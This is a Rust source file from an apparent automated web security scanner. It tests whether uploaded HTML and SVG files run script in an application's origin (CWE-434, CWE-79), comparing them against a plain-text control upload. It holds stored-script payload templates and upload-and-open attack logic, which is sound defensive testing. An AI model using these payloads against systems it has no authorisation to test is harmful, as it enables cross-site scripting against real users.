//! A file that somebody uploads runs in the application's origin when somebody opens it (CWE-434, CWE-79).
//!
//! 1. **Control**: a plain text is taken, and found again where the answer says.
//! 2. A page and a picture (SVG) with a script are uploaded and opened in a browser, by somebody else where there is somebody.
//! 3. **Proven**: the script called from the target's origin, and that of a second upload did too. **Twin**: the plain text.
//!
//! Downloads, sandboxed files and files of another origin do not run there, whatever their type; that is what is tested.

use gabion_model::outbound::BoxFuture;

use super::{Attack, Phase, usable};
use crate::browser::Browsing;
use crate::call::{Call, Payload};
use crate::field::{Field, Known};
use crate::operation::Operation;
use crate::surface::strings;
use crate::verdict::{Outcome, Proof, Verdict};
use crate::wire::{Answer, Request, WireError};

const ID: &str = "upload-execution";

pub(super) struct UploadExecution;

impl Attack for UploadExecution {
    fn id(&self) -> &'static str {
        ID
    }

    fn phase(&self) -> Phase {
        Phase::Write
    }

    fn run<'a>(&'a self, field: &'a Field) -> BoxFuture<'a, Result<(), WireError>> {
        Box::pin(run(field))
    }
}

/// What is uploaded: how a finding is called, the ending and the type.
const KINDS: &[(&str, &str, &str)] = &[("page", "html", "text/html"), ("picture", "svg", "image/svg+xml")];

async fn run(field: &Field) -> Result<(), WireError> {
    let Some(browsing) = field.browsing(ID) else { return Ok(()) };
    let mut met = std::collections::BTreeSet::new();
    for known in &field.known {
        let has_file = matches!(&known.call.payload, Payload::Multipart(parts) if parts.iter().any(|part| part.file.is_some()));
        let Some(operation) = field.operation(known.operation).filter(|_| has_file) else { continue };
        if met.insert(known.operation) {
            Aim { field, browsing, known, operation }.attack().await?;
        }
    }
    if met.is_empty() {
        field.not_tested(ID, "no operation that works takes a file");
    }
    Ok(())
}

struct Aim<'a> {
    field: &'a Field,
    browsing: &'a Browsing,
    known: &'a Known,
    operation: &'a Operation,
}

/// An upload and where it is.
struct Kept {
    request: Request,
    answer: Answer,
    paths: Vec<String>,
}

impl Aim<'_> {
    async fn attack(&self) -> Result<(), WireError> {
        let (field, who) = (self.field, self.known.who);
        let say = |verdict, says: &str| Outcome::new(ID, &self.operation.id(), verdict, says);
        let word = field.canary();
        let mut control = None;
        if let Some(kept) = self.upload("txt", "text/plain", &word).await? {
            for path in &kept.paths {
                let got = usable(field.request(who, &Request::get(path)).await)?;
                if got.is_some_and(|got| got.has(&word)) {
                    control = Some(field.evidence(who, &kept.request, &kept.answer));
                    break;
                }
            }
        }
        let Some(control) = control else {
            field.say(say(Verdict::Inconclusive, "a plain text that was uploaded is not found again"));
            return Ok(());
        };
        let mut found = false;
        for (aspect, ending, kind) in KINDS {
            let Some((kept, path)) = self.runs(ending, kind).await? else { continue };
            let repeated = self.runs(ending, kind).await?.is_some();
            found = true;
            let verdict = if repeated { Verdict::Proven } else { Verdict::Firm };
            let says = format!("an uploaded {aspect} runs its script in the application's origin");
            let evidence = format!("the script of `{path}` ran when it was opened, each time");
            let mut proof =
                Proof::new(field.evidence(who, &kept.request, &kept.answer), evidence).twin(control.clone());
            let request = Request::get(&path);
            if let Some(got) = usable(field.request(who, &request).await)? {
                proof = proof.shown(field.evidence(who, &request, &got));
            }
            field.say(say(verdict, &says).aspect(aspect).proof(proof));
        }
        if !found {
            field.say(say(Verdict::Passed, "no uploaded file ran in the application's origin"));
        }
        Ok(())
    }

    /// Uploads a file with a script and opens it: the upload and where it ran.
    async fn runs(&self, ending: &str, kind: &str) -> Result<Option<(Kept, String)>, WireError> {
        let number = self.browsing.number();
        let call = self.browsing.call(number);
        let content = if ending == "svg" {
            format!(
                "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\"><script>{call}</script></svg>\n"
            )
        } else {
            format!("<!doctype html><title>x</title><script>{call}</script>\n")
        };
        let Some(kept) = self.upload(ending, kind, &content).await? else { return Ok(None) };
        let reader = self.field.signed_in().find(|who| *who != self.known.who).unwrap_or(self.known.who);
        for who in [reader, self.known.who] {
            let Ok(visitor) = self.browsing.visit_as(self.field.person(who)).await else { continue };
            for path in &kept.paths {
                if visitor.runs(path, number).await.unwrap_or(false) {
                    let path = path.clone();
                    return Ok(Some((kept, path)));
                }
            }
        }
        Ok(None)
    }

    async fn upload(&self, ending: &str, kind: &str, content: &str) -> Result<Option<Kept>, WireError> {
        let Payload::Multipart(mut parts) = self.known.call.payload.clone() else { return Ok(None) };
        let name = format!("{}.{ending}", self.field.canary());
        if let Some(part) = parts.iter_mut().find(|part| part.file.is_some()) {
            part.file = Some((name, kind.to_owned()));
            part.content = content.as_bytes().to_vec();
        }
        let call = Call { payload: Payload::Multipart(parts), ..self.known.call.clone() };
        let Some((request, answer)) = usable(self.field.exchange(self.known.who, &call).await)? else {
            return Ok(None);
        };
        let mut links: Vec<String> = answer.field("location").map(str::to_owned).into_iter().collect();
        let body = answer.json().unwrap_or_default();
        strings(&body, &mut |text| links.push(text.to_owned()));
        let inside = |link: &String| {
            let address = link.starts_with('/') || link.starts_with("http");
            self.field.wire.origin().inside(&self.operation.path, link).filter(|_| address)
        };
        let paths = links.iter().filter_map(inside).take(5).collect();
        Ok(Some(Kept { request, answer, paths }))
    }
}
